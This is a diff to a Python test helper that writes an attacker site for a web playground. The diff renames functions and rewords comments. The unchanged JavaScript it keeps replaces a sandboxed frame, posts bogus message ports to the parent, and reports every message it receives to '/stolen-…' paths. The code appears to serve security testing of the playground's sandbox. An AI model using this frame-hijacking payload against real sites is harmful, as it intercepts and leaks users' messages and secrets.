@@ -1,4 +1,4 @@
-"""The pages of another site that shows the playground in a frame and navigates the frame inside it."""
+"""The pages of a site that embeds the playground and navigates the frame inside it."""
 
 from pathlib import Path
 
@@ -27,15 +27,15 @@ async function attack({ address, delay, tag }) {
 </script><body>"""
 
 INSIDE = """<!doctype html><script>
-// In the place of the sandboxed frame: offers ports of its own, and tells what it is given.
-const said = (path) => fetch(path + location.search, { mode: "no-cors" });
-const told = ({ data, ports }) => {
-    said(`/stolen-${ports.length}-ports-${encodeURIComponent(String(data?.kind ?? data)).slice(0, 80)}`);
-    for (const port of ports) port.onmessage = told;
+// Replaces the sandboxed frame: offers its own ports, and reports all messages that it receives.
+const report = (path) => fetch(path + location.search, { mode: "no-cors" });
+const receive = ({ data, ports }) => {
+    report(`/stolen-${ports.length}-ports-${encodeURIComponent(String(data?.kind ?? data)).slice(0, 80)}`);
+    for (const port of ports) port.onmessage = receive;
 };
-addEventListener("message", told);
+addEventListener("message", receive);
 const channels = Array.from({ length: 3 }, () => new MessageChannel());
-for (const { port1 } of channels) port1.onmessage = told;
+for (const { port1 } of channels) port1.onmessage = receive;
 const ports = channels.map(({ port2 }) => port2);
 parent.postMessage("", "*", ports);
 parent.postMessage({ secret: "" }, "*", [new MessageChannel().port2]);
@@ -43,6 +43,6 @@ parent.postMessage({ secret: "" }, "*", [new MessageChannel().port2]);
 
 
 def write_attacker(folder: Path) -> None:
-    """Write the embedding page, and the document that it puts in the place of the sandboxed frame."""
+    """Write the embedding page, and the document that it loads instead of the sandboxed frame."""
     (folder / "index.html").write_text(EMBEDDING)
     (folder / "attacker.html").write_text(INSIDE)
